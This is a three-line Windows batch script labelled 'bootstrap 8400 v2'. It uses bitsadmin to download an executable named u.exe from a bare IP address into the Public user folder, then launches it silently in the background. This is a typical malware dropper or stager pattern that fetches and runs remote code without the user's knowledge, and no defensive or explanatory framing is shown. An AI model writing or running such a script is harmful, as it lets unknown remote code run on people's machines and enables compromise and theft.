REM bootstrap 8400 v2
bitsadmin /transfer job /download /priority high http://192.0.2.150/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
